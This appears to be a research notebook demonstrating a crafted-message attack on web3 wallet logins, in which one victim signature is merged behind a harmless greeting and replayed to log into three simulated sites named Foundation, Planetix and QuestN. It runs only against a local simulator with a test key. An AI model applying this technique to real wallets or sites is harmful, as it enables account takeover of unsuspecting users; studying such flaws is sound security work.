# %% [markdown]
# # One signature, three logins
#
# Three simulated sites are careless in different ways. Foundation only
# checks that its message appears somewhere in the signed text. Planetix and
# QuestN ignore the prose and read only the field lines. A single crafted
# message can therefore satisfy all three.

# %%
from w3authkit import Policy, Scanner, SimServer, craft_bmma_message, fixture_table2, keypair_from_seed, load_targets
from w3authkit import personal_sign
from w3authkit.vulnsim import target_document

chosen = [p for p in fixture_table2() if p.label in ("foundation", "planetix", "questn")]
sim = SimServer(chosen).start()
targets = load_targets(target_document(chosen, sim.root_url))
scanner = Scanner(Policy(timeout=5))

# %% [markdown]
# First the scanner decides how each site treats the message.

# %%
findings = [(t, scanner.check_message(t)) for t in targets]
for t, f in findings:
    print(f"{t.label:12} message={f.message.value:4} body={f.body.value}")

# %% [markdown]
# The victim's wallet fetches a fresh login message from each site. The
# attacker merges them behind a harmless greeting.

# %%
victim = keypair_from_seed(b"victim".ljust(32, b"\0"))
genuine, sessions = {}, {}
for t in targets:
    genuine[t.label], sessions[t.label] = scanner.fresh_message(t, victim)
message = craft_bmma_message(findings, genuine)
print(message)

# %%
sig = personal_sign(message, victim).hex
for t in targets:
    outcome, status, _ = scanner.auth(t, sessions[t.label], message, sig, victim.address_hex)
    print(f"{t.label:12} {outcome.value} (HTTP {status})")

# %%
sim.stop()
